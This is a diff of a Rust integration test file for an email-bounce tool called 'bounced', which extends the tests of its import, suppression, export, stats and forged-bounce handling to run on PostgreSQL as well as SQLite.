@@ -1,5 +1,9 @@
-//! The database subcommands end to end: the real binary on a real SQLite file in a temp dir.
+//! The database subcommands end to end: the real binary on a SQLite file in a temp dir, and the
+//! store's commands again on PostgreSQL when it is available.
 
+mod common;
+
+use std::cell::RefCell;
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::{Command, Output};
@@ -30,11 +34,42 @@ fn dsn(n: u32) -> String {
     DSN.replace("NUM", &n.to_string())
 }
 
+thread_local! {
+    /// The PostgreSQL database of the engine the current test runs on; `None` on SQLite.
+    static ON: RefCell<Option<String>> = const { RefCell::new(None) };
+}
+
+/// Runs `body` once per engine; on PostgreSQL every `bounced` the test starts uses its database,
+/// through `BOUNCED_DB` (or `--db` with [`target`]).
+fn each_engine(test: &str, mut body: impl FnMut(&common::engines::Engine)) {
+    for engine in common::engines::all(test) {
+        eprintln!("{test}: {}", engine.name);
+        let url = engine
+            .is_postgres()
+            .then(|| engine.location.display().to_string());
+        ON.with(|on| *on.borrow_mut() = url);
+        body(&engine);
+        ON.with(|on| *on.borrow_mut() = None);
+    }
+}
+
+/// The database a test names: the file on SQLite, the engine's database on PostgreSQL.
+fn target(file: &str) -> String {
+    ON.with(|on| on.borrow().clone().unwrap_or_else(|| file.to_owned()))
+}
+
+/// Points `c` at the current engine's database: PostgreSQL's when there is one, else nothing set.
+fn engine_env(c: &mut Command) -> &mut Command {
+    match ON.with(|on| on.borrow().clone()) {
+        Some(url) => c.env("BOUNCED_DB", url),
+        None => c.env_remove("BOUNCED_DB"),
+    }
+}
+
 fn bounced(dir: &Path, args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_bounced"))
+    engine_env(&mut Command::new(env!("CARGO_BIN_EXE_bounced")))
         .args(args)
         .current_dir(dir)
-        .env_remove("BOUNCED_DB")
         .env_remove("BOUNCED_CONFIG")
         .env_remove("RUST_LOG")
         .output()
@@ -77,33 +112,35 @@ fn inputs(dir: &Path) {
 
 #[test]
 fn import_records_each_message_once() {
-    let dir = tempfile::tempdir().unwrap();
-    inputs(dir.path());
-    let first = bounced(dir.path(), &["import", "in", "--json"]);
-    assert!(first.status.success(), "{}", stderr(&first));
-    let s = json(&first);
-    assert_eq!(s["messages"], 6, "{s}");
-    assert_eq!(s["new"], 6, "{s}");
-    assert_eq!(s["duplicates"], 0, "{s}");
-    assert_eq!(s["errors"], 1, "the empty file: {s}");
-    assert!(dir.path().join("bounced.db").exists());
+    each_engine("import_records_each_message_once", |engine| {
+        let dir = tempfile::tempdir().unwrap();
+        inputs(dir.path());
+        let first = bounced(dir.path(), &["import", "in", "--json"]);
+        assert!(first.status.success(), "{}", stderr(&first));
+        let s = json(&first);
+        assert_eq!(s["messages"], 6, "{s}");
+        assert_eq!(s["new"], 6, "{s}");
+        assert_eq!(s["duplicates"], 0, "{s}");
+        assert_eq!(s["errors"], 1, "the empty file: {s}");
+        assert!(engine.is_postgres() || dir.path().join("bounced.db").exists());
 
-    let again = bounced(dir.path(), &["import", "in", "--json"]);
-    assert!(again.status.success(), "{}", stderr(&again));
-    let s = json(&again);
-    assert_eq!(s["new"], 0, "{s}");
-    assert_eq!(s["duplicates"], 6, "{s}");
+        let again = bounced(dir.path(), &["import", "in", "--json"]);
+        assert!(again.status.success(), "{}", stderr(&again));
+        let s = json(&again);
+        assert_eq!(s["new"], 0, "{s}");
+        assert_eq!(s["duplicates"], 6, "{s}");
 
-    let stats = bounced(dir.path(), &["stats", "--format", "jsonl"]);
-    assert!(stats.status.success(), "{}", stderr(&stats));
-    assert_eq!(json(&stats)["messages"], 6);
+        let stats = bounced(dir.path(), &["stats", "--format", "jsonl"]);
+        assert!(stats.status.success(), "{}", stderr(&stats));
+        assert_eq!(json(&stats)["messages"], 6);
 
-    let list = bounced(dir.path(), &["stats", "--format", "csv"]);
-    assert!(
-        stdout(&list).starts_with("group,key,count\nmessages,total,6\n"),
-        "{}",
-        stdout(&list)
-    );
+        let list = bounced(dir.path(), &["stats", "--format", "csv"]);
+        assert!(
+            stdout(&list).starts_with("group,key,count\nmessages,total,6\n"),
+            "{}",
+            stdout(&list)
+        );
+    });
 }
 
 #[test]
@@ -122,139 +159,143 @@ fn import_summary_as_text_and_a_missing_input_exit_1() {
 
 #[test]
 fn suppress_export_query_unsuppress() {
-    let dir = tempfile::tempdir().unwrap();
-    let db = dir.path().join("lists.db");
-    let db = db.to_str().unwrap();
-    let out = bounced(
-        dir.path(),
-        &[
-            "suppress",
-            "Pat@Example.COM",
-            "--reason",
-            "asked by phone",
-            "--db",
-            db,
-        ],
-    );
-    assert!(out.status.success(), "{}", stderr(&out));
-    assert_eq!(stdout(&out), "Pat@example.com suppressed\n");
+    each_engine("suppress_export_query_unsuppress", |_engine| {
+        let dir = tempfile::tempdir().unwrap();
+        let db = target(dir.path().join("lists.db").to_str().unwrap());
+        let db = db.as_str();
+        let out = bounced(
+            dir.path(),
+            &[
+                "suppress",
+                "Pat@Example.COM",
+                "--reason",
+                "asked by phone",
+                "--db",
+                db,
+            ],
+        );
+        assert!(out.status.success(), "{}", stderr(&out));
+        assert_eq!(stdout(&out), "Pat@example.com suppressed\n");
 
-    let txt = bounced(dir.path(), &["export", "--db", db]);
-    assert!(txt.status.success(), "{}", stderr(&txt));
-    assert_eq!(stdout(&txt), "Pat@example.com\n");
+        let txt = bounced(dir.path(), &["export", "--db", db]);
+        assert!(txt.status.success(), "{}", stderr(&txt));
+        assert_eq!(stdout(&txt), "Pat@example.com\n");
 
-    let hard_only = bounced(
-        dir.path(),
-        &["export", "--db", db, "--types", "hard", "--format", "ses"],
-    );
-    assert_eq!(stdout(&hard_only), "");
+        let hard_only = bounced(
+            dir.path(),
+            &["export", "--db", db, "--types", "hard", "--format", "ses"],
+        );
+        assert_eq!(stdout(&hard_only), "");
 
-    let file = dir.path().join("out/list.csv");
-    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
-    let out = bounced(
-        dir.path(),
-        &[
-            "export",
-            "--db",
-            db,
-            "--format",
-            "postfix",
-            "-o",
-            file.to_str().unwrap(),
-        ],
-    );
-    assert!(out.status.success(), "{}", stderr(&out));
-    assert_eq!(stdout(&out), "");
-    assert_eq!(
-        std::fs::read_to_string(&file).unwrap(),
-        "Pat@example.com REJECT 5.7.1 Recipient address suppressed by the operator\n"
-    );
-    let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
-    assert_eq!(mode, 0o640);
-    let leftovers: Vec<_> = std::fs::read_dir(file.parent().unwrap()).unwrap().collect();
-    assert_eq!(leftovers.len(), 1, "no temporary file is left behind");
+        let file = dir.path().join("out/list.csv");
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        let out = bounced(
+            dir.path(),
+            &[
+                "export",
+                "--db",
+                db,
+                "--format",
+                "postfix",
+                "-o",
+                file.to_str().unwrap(),
+            ],
+        );
+        assert!(out.status.success(), "{}", stderr(&out));
+        assert_eq!(stdout(&out), "");
+        assert_eq!(
+            std::fs::read_to_string(&file).unwrap(),
+            "Pat@example.com REJECT 5.7.1 Recipient address suppressed by the operator\n"
+        );
+        let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o640);
+        let leftovers: Vec<_> = std::fs::read_dir(file.parent().unwrap()).unwrap().collect();
+        assert_eq!(leftovers.len(), 1, "no temporary file is left behind");
 
-    // Lookup ignores the case of the local part when only one address matches.
-    let q = bounced(
-        dir.path(),
-        &[
-            "query",
-            "recipient",
-            "pat@example.com",
-            "--db",
-            db,
-            "--format",
-            "jsonl",
-        ],
-    );
-    assert!(q.status.success(), "{}", stderr(&q));
-    let v = json(&q);
-    assert_eq!(v["recipient"]["state"], "suppressed");
-    assert_eq!(v["history"][0]["cause"], "manual");
-    assert_eq!(v["history"][0]["note"], "asked by phone");
+        // Lookup ignores the case of the local part when only one address matches.
+        let q = bounced(
+            dir.path(),
+            &[
+                "query",
+                "recipient",
+                "pat@example.com",
+                "--db",
+                db,
+                "--format",
+                "jsonl",
+            ],
+        );
+        assert!(q.status.success(), "{}", stderr(&q));
+        let v = json(&q);
+        assert_eq!(v["recipient"]["state"], "suppressed");
+        assert_eq!(v["history"][0]["cause"], "manual");
+        assert_eq!(v["history"][0]["note"], "asked by phone");
 
-    let table = bounced(
-        dir.path(),
-        &["query", "recipient", "Pat@example.com", "--db", db],
-    );
-    assert!(
-        stdout(&table).contains("state        suppressed"),
-        "{}",
-        stdout(&table)
-    );
+        let table = bounced(
+            dir.path(),
+            &["query", "recipient", "Pat@example.com", "--db", db],
+        );
+        assert!(
+            stdout(&table).contains("state        suppressed"),
+            "{}",
+            stdout(&table)
+        );
 
-    let out = bounced(dir.path(), &["unsuppress", "Pat@example.com", "--db", db]);
-    assert!(out.status.success(), "{}", stderr(&out));
-    let txt = bounced(dir.path(), &["export", "--db", db, "--format", "txt"]);
-    assert_eq!(stdout(&txt), "");
+        let out = bounced(dir.path(), &["unsuppress", "Pat@example.com", "--db", db]);
+        assert!(out.status.success(), "{}", stderr(&out));
+        let txt = bounced(dir.path(), &["export", "--db", db, "--format", "txt"]);
+        assert_eq!(stdout(&txt), "");
 
-    let unknown = bounced(
-        dir.path(),
-        &["query", "recipient", "nobody@example.com", "--db", db],
-    );
-    assert_eq!(unknown.status.code(), Some(1));
-    let unknown = bounced(
-        dir.path(),
-        &["unsuppress", "nobody@example.com", "--db", db],
-    );
-    assert_eq!(unknown.status.code(), Some(1));
+        let unknown = bounced(
+            dir.path(),
+            &["query", "recipient", "nobody@example.com", "--db", db],
+        );
+        assert_eq!(unknown.status.code(), Some(1));
+        let unknown = bounced(
+            dir.path(),
+            &["unsuppress", "nobody@example.com", "--db", db],
+        );
+        assert_eq!(unknown.status.code(), Some(1));
+    });
 }
 
 #[test]
 fn query_bounces_and_stats_in_every_format() {
-    let dir = tempfile::tempdir().unwrap();
-    inputs(dir.path());
-    assert!(bounced(dir.path(), &["import", "in"]).status.success());
-    let csv = bounced(
-        dir.path(),
-        &[
-            "query",
-            "bounces",
-            "--format",
-            "csv",
-            "--since",
-            "2000-01-01",
-        ],
-    );
-    assert!(csv.status.success(), "{}", stderr(&csv));
-    assert!(
-        stdout(&csv).starts_with(
-            "at,recipient,type,reason,status,replycode,rule,source,verp_mismatch,diagnostic\n"
-        ),
-        "{}",
-        stdout(&csv)
-    );
-    for by in ["reason", "domain", "type", "day"] {
-        for format in ["table", "jsonl", "csv"] {
-            let out = bounced(dir.path(), &["stats", "--by", by, "--format", format]);
-            assert!(out.status.success(), "{by} {format}: {}", stderr(&out));
+    each_engine("query_bounces_and_stats_in_every_format", |_engine| {
+        let dir = tempfile::tempdir().unwrap();
+        inputs(dir.path());
+        assert!(bounced(dir.path(), &["import", "in"]).status.success());
+        let csv = bounced(
+            dir.path(),
+            &[
+                "query",
+                "bounces",
+                "--format",
+                "csv",
+                "--since",
+                "2000-01-01",
+            ],
+        );
+        assert!(csv.status.success(), "{}", stderr(&csv));
+        assert!(
+            stdout(&csv).starts_with(
+                "at,recipient,type,reason,status,replycode,rule,source,verp_mismatch,diagnostic\n"
+            ),
+            "{}",
+            stdout(&csv)
+        );
+        for by in ["reason", "domain", "type", "day"] {
+            for format in ["table", "jsonl", "csv"] {
+                let out = bounced(dir.path(), &["stats", "--by", by, "--format", format]);
+                assert!(out.status.success(), "{by} {format}: {}", stderr(&out));
+            }
         }
-    }
-    let rc = bounced(dir.path(), &["reclassify", "--format", "jsonl"]);
-    assert!(rc.status.success(), "{}", stderr(&rc));
-    let v = json(&rc);
-    assert_eq!(v["messages"], 6);
-    assert_eq!(v["changed"], 0, "the same rules change nothing: {v}");
+        let rc = bounced(dir.path(), &["reclassify", "--format", "jsonl"]);
+        assert!(rc.status.success(), "{}", stderr(&rc));
+        let v = json(&rc);
+        assert_eq!(v["messages"], 6);
+        assert_eq!(v["changed"], 0, "the same rules change nothing: {v}");
+    });
 }
 
 #[test]
@@ -390,35 +431,49 @@ fn a_read_only_database_is_named_readers_still_work_and_nothing_is_written() {
 
 #[test]
 fn processes_started_at_once_on_a_new_database_all_succeed() {
-    let dir = tempfile::tempdir().unwrap();
-    std::fs::write(dir.path().join("one.eml"), dsn(1)).unwrap();
-    for round in 0..10 {
-        let db = format!("race-{round}.db");
-        let children: Vec<_> = (0..6)
-            .map(|i| {
-                let mut c = Command::new(env!("CARGO_BIN_EXE_bounced"));
-                c.current_dir(dir.path())
-                    .env_remove("BOUNCED_DB")
-                    .env_remove("BOUNCED_CONFIG")
-                    .env_remove("RUST_LOG")
-                    .stdout(std::process::Stdio::null())
-                    .stderr(std::process::Stdio::piped());
-                if i % 2 == 0 {
-                    c.args(["import", "one.eml", "--db", &db]);
-                } else {
-                    c.args(["suppress", &format!("racer{i}@example.com"), "--db", &db]);
-                }
-                c.spawn().unwrap()
-            })
-            .collect();
-        for child in children {
-            let out = child.wait_with_output().unwrap();
-            assert!(out.status.success(), "round {round}: {}", stderr(&out));
+    let test = "processes_started_at_once_on_a_new_database_all_succeed";
+    for kind in common::engines::kinds(test) {
+        eprintln!("{test}: {kind:?}");
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("one.eml"), dsn(1)).unwrap();
+        for round in 0..10 {
+            // On PostgreSQL a new empty database each round: the migrations race too.
+            let engine = kind.fresh(test);
+            let db = if engine.is_postgres() {
+                engine.location.display().to_string()
+            } else {
+                format!("race-{round}.db")
+            };
+            let children: Vec<_> = (0..6)
+                .map(|i| {
+                    let mut c = Command::new(env!("CARGO_BIN_EXE_bounced"));
+                    c.current_dir(dir.path())
+                        .env_remove("BOUNCED_DB")
+                        .env_remove("BOUNCED_CONFIG")
+                        .env_remove("RUST_LOG")
+                        .stdout(std::process::Stdio::null())
+                        .stderr(std::process::Stdio::piped());
+                    if i % 2 == 0 {
+                        c.args(["import", "one.eml", "--db", &db]);
+                    } else {
+                        c.args(["suppress", &format!("racer{i}@example.com"), "--db", &db]);
+                    }
+                    c.spawn().unwrap()
+                })
+                .collect();
+            for child in children {
+                let out = child.wait_with_output().unwrap();
+                assert!(
+                    out.status.success(),
+                    "{kind:?} round {round}: {}",
+                    stderr(&out)
+                );
+            }
+            let stats = bounced(dir.path(), &["stats", "--db", &db, "--format", "jsonl"]);
+            let s = json(&stats);
+            assert_eq!(s["messages"], 1, "{kind:?} round {round}: {s}");
+            assert_eq!(s["recipients"], 4, "{kind:?} round {round}: {s}");
         }
-        let stats = bounced(dir.path(), &["stats", "--db", &db, "--format", "jsonl"]);
-        let s = json(&stats);
-        assert_eq!(s["messages"], 1, "round {round}: {s}");
-        assert_eq!(s["recipients"], 4, "round {round}: {s}");
     }
 }
 
@@ -443,7 +498,7 @@ note = \"a test rule\"\n";
 
 /// `bounced db check` on `db`: its exit code and stderr.
 fn db_check(dir: &Path, db: &str) -> (Option<i32>, String) {
-    let out = bounced(dir, &["db", "check", "--db", db]);
+    let out = bounced(dir, &["db", "check", "--db", &target(db)]);
     (
         out.status.code(),
         format!("{}{}", stdout(&out), stderr(&out)),
@@ -620,10 +675,9 @@ fn reclassify_stopped_by_a_lock_leaves_every_recipient_in_step() {
 /// `bounced ARGS` with `input` on its standard input.
 fn bounced_stdin(dir: &Path, args: &[&str], input: &str) -> Output {
     use std::io::Write;
-    let mut child = Command::new(env!("CARGO_BIN_EXE_bounced"))
+    let mut child = engine_env(&mut Command::new(env!("CARGO_BIN_EXE_bounced")))
         .args(args)
         .current_dir(dir)
-        .env_remove("BOUNCED_DB")
         .env_remove("BOUNCED_CONFIG")
         .env_remove("RUST_LOG")
         .stdin(std::process::Stdio::piped())
@@ -642,175 +696,187 @@ fn bounced_stdin(dir: &Path, args: &[&str], input: &str) -> Output {
 
 #[test]
 fn stats_without_by_apply_since_and_until() {
-    let dir = tempfile::tempdir().unwrap();
-    let inbox = dir.path().join("in");
-    std::fs::create_dir_all(&inbox).unwrap();
-    // Three failures on three days of March 2026.
-    for (n, day) in [(1, 2), (2, 5), (3, 9)] {
-        let text = dsn(n).replace(
-            "Action: failed\n",
-            &format!("Action: failed\nLast-Attempt-Date: Mon, {day} Mar 2026 10:00:00 +0000\n"),
+    each_engine("stats_without_by_apply_since_and_until", |_engine| {
+        let dir = tempfile::tempdir().unwrap();
+        let inbox = dir.path().join("in");
+        std::fs::create_dir_all(&inbox).unwrap();
+        // Three failures on three days of March 2026.
+        for (n, day) in [(1, 2), (2, 5), (3, 9)] {
+            let text = dsn(n).replace(
+                "Action: failed\n",
+                &format!("Action: failed\nLast-Attempt-Date: Mon, {day} Mar 2026 10:00:00 +0000\n"),
+            );
+            std::fs::write(inbox.join(format!("{n}.eml")), text).unwrap();
+        }
+        assert!(bounced(dir.path(), &["import", "in"]).status.success());
+        let all = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
+        assert_eq!(all["bounces"], 3, "{all}");
+        let part = bounced(
+            dir.path(),
+            &[
+                "stats",
+                "--since",
+                "2026-03-04",
+                "--until",
+                "2026-03-08",
+                "--format",
+                "jsonl",
+            ],
         );
-        std::fs::write(inbox.join(format!("{n}.eml")), text).unwrap();
-    }
-    assert!(bounced(dir.path(), &["import", "in"]).status.success());
-    let all = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
-    assert_eq!(all["bounces"], 3, "{all}");
-    let part = bounced(
-        dir.path(),
-        &[
-            "stats",
-            "--since",
-            "2026-03-04",
-            "--until",
-            "2026-03-08",
-            "--format",
-            "jsonl",
-        ],
-    );
-    assert!(part.status.success(), "{}", stderr(&part));
-    let part = json(&part);
-    assert_eq!(part["bounces"], 1, "{part}");
-    assert_eq!(part["recipients"], 1, "{part}");
-    assert_eq!(
-        part["suppressed"],
-        serde_json::json!([["hard", 1]]),
-        "{part}"
-    );
-    let table = stdout(&bounced(
-        dir.path(),
-        &["stats", "--since", "2026-03-08", "--format", "csv"],
-    ));
-    assert!(table.contains("bounces,total,1\n"), "{table}");
-    assert!(table.contains("bounces,hard,1\n"), "{table}");
+        assert!(part.status.success(), "{}", stderr(&part));
+        let part = json(&part);
+        assert_eq!(part["bounces"], 1, "{part}");
+        assert_eq!(part["recipients"], 1, "{part}");
+        assert_eq!(
+            part["suppressed"],
+            serde_json::json!([["hard", 1]]),
+            "{part}"
+        );
+        let table = stdout(&bounced(
+            dir.path(),
+            &["stats", "--since", "2026-03-08", "--format", "csv"],
+        ));
+        assert!(table.contains("bounces,total,1\n"), "{table}");
+        assert!(table.contains("bounces,hard,1\n"), "{table}");
+    });
 }
 
 #[test]
 fn a_repeated_suppress_adds_no_history_and_the_default_reason_says_who() {
-    let dir = tempfile::tempdir().unwrap();
-    for _ in 0..3 {
-        let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
-        assert!(out.status.success(), "{}", stderr(&out));
-    }
-    let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
-    assert_eq!(
-        stdout(&out),
-        "sam@example.com already suppressed by hand; nothing to do\n"
-    );
-    let q = json(&bounced(
-        dir.path(),
-        &["query", "recipient", "sam@example.com", "--format", "jsonl"],
-    ));
-    let history = q["history"].as_array().unwrap();
-    assert_eq!(history.len(), 1, "{q}");
-    assert_eq!(history[0]["note"], "suppressed by the operator");
-    let table = stdout(&bounced(
-        dir.path(),
-        &["query", "recipient", "sam@example.com"],
-    ));
-    assert!(
-        table.contains("(manual: suppressed by the operator)"),
-        "{table}"
-    );
-    assert!(!table.contains("(manual: )"), "{table}");
+    each_engine(
+        "a_repeated_suppress_adds_no_history_and_the_default_reason_says_who",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            for _ in 0..3 {
+                let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
+                assert!(out.status.success(), "{}", stderr(&out));
+            }
+            let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
+            assert_eq!(
+                stdout(&out),
+                "sam@example.com already suppressed by hand; nothing to do\n"
+            );
+            let q = json(&bounced(
+                dir.path(),
+                &["query", "recipient", "sam@example.com", "--format", "jsonl"],
+            ));
+            let history = q["history"].as_array().unwrap();
+            assert_eq!(history.len(), 1, "{q}");
+            assert_eq!(history[0]["note"], "suppressed by the operator");
+            let table = stdout(&bounced(
+                dir.path(),
+                &["query", "recipient", "sam@example.com"],
+            ));
+            assert!(
+                table.contains("(manual: suppressed by the operator)"),
+                "{table}"
+            );
+            assert!(!table.contains("(manual: )"), "{table}");
 
-    // Unsuppress twice: one row.
-    for _ in 0..2 {
-        assert!(
-            bounced(dir.path(), &["unsuppress", "sam@example.com"])
-                .status
-                .success()
-        );
-    }
-    let q = json(&bounced(
-        dir.path(),
-        &["query", "recipient", "sam@example.com", "--format", "jsonl"],
-    ));
-    assert_eq!(q["history"].as_array().unwrap().len(), 2, "{q}");
+            // Unsuppress twice: one row.
+            for _ in 0..2 {
+                assert!(
+                    bounced(dir.path(), &["unsuppress", "sam@example.com"])
+                        .status
+                        .success()
+                );
+            }
+            let q = json(&bounced(
+                dir.path(),
+                &["query", "recipient", "sam@example.com", "--format", "jsonl"],
+            ));
+            assert_eq!(q["history"].as_array().unwrap().len(), 2, "{q}");
+        },
+    );
 }
 
 #[test]
 fn suppress_and_unsuppress_take_many_addresses_and_standard_input() {
-    let dir = tempfile::tempdir().unwrap();
-    let input = "# to remove\nann@example.com\n\n  bob@example.com   # asked by phone\nnot-an-address\nann@example.com\n";
-    let out = bounced_stdin(
-        dir.path(),
-        &["suppress", "cy@example.com", "-", "--dry-run"],
-        input,
-    );
-    assert!(!dir.path().join("bounced.db").exists() || out.status.code() == Some(1));
-    // A dry run on a new database: nothing exists to read.
-    assert!(!out.status.success(), "{}", stdout(&out));
-    assert!(
-        bounced(dir.path(), &["suppress", "first@example.com"])
-            .status
-            .success()
-    );
+    each_engine(
+        "suppress_and_unsuppress_take_many_addresses_and_standard_input",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            let input = "# to remove\nann@example.com\n\n  bob@example.com   # asked by phone\nnot-an-address\nann@example.com\n";
+            let out = bounced_stdin(
+                dir.path(),
+                &["suppress", "cy@example.com", "-", "--dry-run"],
+                input,
+            );
+            assert!(!dir.path().join("bounced.db").exists() || out.status.code() == Some(1));
+            // A dry run on a new database: nothing exists to read.
+            assert!(!out.status.success(), "{}", stdout(&out));
+            assert!(
+                bounced(dir.path(), &["suppress", "first@example.com"])
+                    .status
+                    .success()
+            );
 
-    let out = bounced_stdin(
-        dir.path(),
-        &["suppress", "cy@example.com", "-", "--dry-run"],
-        input,
-    );
-    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
-    assert_eq!(
-        stdout(&out),
-        "cy@example.com would be suppressed\n\
-         ann@example.com would be suppressed\n\
-         bob@example.com would be suppressed\n\
-         not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
-         ann@example.com would be suppressed\n"
-    );
-    assert!(
-        stderr(&out).contains("1 of 5 addresses refused"),
-        "{}",
-        stderr(&out)
-    );
-    let list = stdout(&bounced(dir.path(), &["export"]));
-    assert_eq!(list, "first@example.com\n", "a dry run writes nothing");
+            let out = bounced_stdin(
+                dir.path(),
+                &["suppress", "cy@example.com", "-", "--dry-run"],
+                input,
+            );
+            assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+            assert_eq!(
+                stdout(&out),
+                "cy@example.com would be suppressed\n\
+             ann@example.com would be suppressed\n\
+             bob@example.com would be suppressed\n\
+             not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
+             ann@example.com would be suppressed\n"
+            );
+            assert!(
+                stderr(&out).contains("1 of 5 addresses refused"),
+                "{}",
+                stderr(&out)
+            );
+            let list = stdout(&bounced(dir.path(), &["export"]));
+            assert_eq!(list, "first@example.com\n", "a dry run writes nothing");
 
-    let out = bounced_stdin(dir.path(), &["suppress", "cy@example.com", "-"], input);
-    assert_eq!(out.status.code(), Some(1));
-    assert_eq!(
-        stdout(&out),
-        "cy@example.com suppressed\n\
-         ann@example.com suppressed\n\
-         bob@example.com suppressed\n\
-         not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
-         ann@example.com already suppressed by hand; nothing to do\n"
-    );
-    let list = stdout(&bounced(dir.path(), &["export"]));
-    assert_eq!(
-        list,
-        "ann@example.com\nbob@example.com\ncy@example.com\nfirst@example.com\n"
-    );
+            let out = bounced_stdin(dir.path(), &["suppress", "cy@example.com", "-"], input);
+            assert_eq!(out.status.code(), Some(1));
+            assert_eq!(
+                stdout(&out),
+                "cy@example.com suppressed\n\
+             ann@example.com suppressed\n\
+             bob@example.com suppressed\n\
+             not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
+             ann@example.com already suppressed by hand; nothing to do\n"
+            );
+            let list = stdout(&bounced(dir.path(), &["export"]));
+            assert_eq!(
+                list,
+                "ann@example.com\nbob@example.com\ncy@example.com\nfirst@example.com\n"
+            );
 
-    let out = bounced(
-        dir.path(),
-        &[
-            "unsuppress",
-            "ann@example.com",
-            "nobody@example.com",
-            "--dry-run",
-        ],
+            let out = bounced(
+                dir.path(),
+                &[
+                    "unsuppress",
+                    "ann@example.com",
+                    "nobody@example.com",
+                    "--dry-run",
+                ],
+            );
+            assert_eq!(out.status.code(), Some(1));
+            assert_eq!(
+                stdout(&out),
+                "ann@example.com would be unsuppressed\nnobody@example.com refused: not in the database\n"
+            );
+            let out = bounced_stdin(
+                dir.path(),
+                &["unsuppress", "-"],
+                "ann@example.com\nbob@example.com\n",
+            );
+            assert!(out.status.success(), "{}", stderr(&out));
+            assert_eq!(
+                stdout(&out),
+                "ann@example.com unsuppressed\nbob@example.com unsuppressed\n"
+            );
+            let list = stdout(&bounced(dir.path(), &["export"]));
+            assert_eq!(list, "cy@example.com\nfirst@example.com\n");
+        },
     );
-    assert_eq!(out.status.code(), Some(1));
-    assert_eq!(
-        stdout(&out),
-        "ann@example.com would be unsuppressed\nnobody@example.com refused: not in the database\n"
-    );
-    let out = bounced_stdin(
-        dir.path(),
-        &["unsuppress", "-"],
-        "ann@example.com\nbob@example.com\n",
-    );
-    assert!(out.status.success(), "{}", stderr(&out));
-    assert_eq!(
-        stdout(&out),
-        "ann@example.com unsuppressed\nbob@example.com unsuppressed\n"
-    );
-    let list = stdout(&bounced(dir.path(), &["export"]));
-    assert_eq!(list, "cy@example.com\nfirst@example.com\n");
 }
 
 #[test]
@@ -887,304 +953,326 @@ fn verp_dsn(subscriber: &str, about: &str, n: u32) -> String {
 
 #[test]
 fn a_report_about_someone_else_than_the_verp_recipient_is_kept_flagged_and_never_suppresses() {
-    let dir = tempfile::tempdir().unwrap();
-    let inbox = dir.path().join("in");
-    std::fs::create_dir_all(&inbox).unwrap();
-    std::fs::write(
-        inbox.join("forged.eml"),
-        verp_dsn("alice@example.net", "ceo@victim.example", 1),
-    )
-    .unwrap();
-    std::fs::write(
-        inbox.join("real.eml"),
-        verp_dsn("bob@example.net", "Bob@Example.NET", 2),
-    )
-    .unwrap();
-    let out = bounced(dir.path(), &["import", "in"]);
-    assert!(out.status.success(), "{}", stderr(&out));
-    assert_eq!(
-        stdout(&bounced(dir.path(), &["export"])),
-        "Bob@example.net\n",
-        "the report about bob, sent to bob's address, suppresses him; the forged one nobody"
+    each_engine(
+        "a_report_about_someone_else_than_the_verp_recipient_is_kept_flagged_and_never_suppresses",
+        |_engine| {
+            let dir = tempfile::tempdir().unwrap();
+            let inbox = dir.path().join("in");
+            std::fs::create_dir_all(&inbox).unwrap();
+            std::fs::write(
+                inbox.join("forged.eml"),
+                verp_dsn("alice@example.net", "ceo@victim.example", 1),
+            )
+            .unwrap();
+            std::fs::write(
+                inbox.join("real.eml"),
+                verp_dsn("bob@example.net", "Bob@Example.NET", 2),
+            )
+            .unwrap();
+            let out = bounced(dir.path(), &["import", "in"]);
+            assert!(out.status.success(), "{}", stderr(&out));
+            assert_eq!(
+                stdout(&bounced(dir.path(), &["export"])),
+                "Bob@example.net\n",
+                "the report about bob, sent to bob's address, suppresses him; the forged one nobody"
+            );
+            let q = bounced(
+                dir.path(),
+                &[
+                    "query",
+                    "recipient",
+                    "ceo@victim.example",
+                    "--format",
+                    "jsonl",
+                ],
+            );
+            let v = json(&q);
+            assert_eq!(v["recipient"]["state"], "active", "{v}");
+            assert_eq!(v["recipient"]["hard_count"], 0, "{v}");
+            assert_eq!(v["bounces"][0]["verp_mismatch"], true, "{v}");
+            assert_eq!(v["bounces"][0]["reason"], "userunknown", "{v}");
+            let csv = stdout(&bounced(
+                dir.path(),
+                &["query", "bounces", "--format", "csv"],
+            ));
+            assert!(csv.contains(",yes,"), "{csv}");
+            let s = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
+            assert_eq!(s["verp_mismatches"], 1, "{s}");
+            assert_eq!(s["bounces"], 2, "{s}");
+            let table = stdout(&bounced(dir.path(), &["stats"]));
+            assert!(table.contains("verp_mismatch"), "{table}");
+            let (code, report) = db_check(dir.path(), "bounced.db");
+            assert_eq!(code, Some(0), "{report}");
+        },
     );
-    let q = bounced(
-        dir.path(),
-        &[
-            "query",
-            "recipient",
-            "ceo@victim.example",
-            "--format",
-            "jsonl",
-        ],
-    );
-    let v = json(&q);
-    assert_eq!(v["recipient"]["state"], "active", "{v}");
-    assert_eq!(v["recipient"]["hard_count"], 0, "{v}");
-    assert_eq!(v["bounces"][0]["verp_mismatch"], true, "{v}");
-    assert_eq!(v["bounces"][0]["reason"], "userunknown", "{v}");
-    let csv = stdout(&bounced(
-        dir.path(),
-        &["query", "bounces", "--format", "csv"],
-    ));
-    assert!(csv.contains(",yes,"), "{csv}");
-    let s = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
-    assert_eq!(s["verp_mismatches"], 1, "{s}");
-    assert_eq!(s["bounces"], 2, "{s}");
-    let table = stdout(&bounced(dir.path(), &["stats"]));
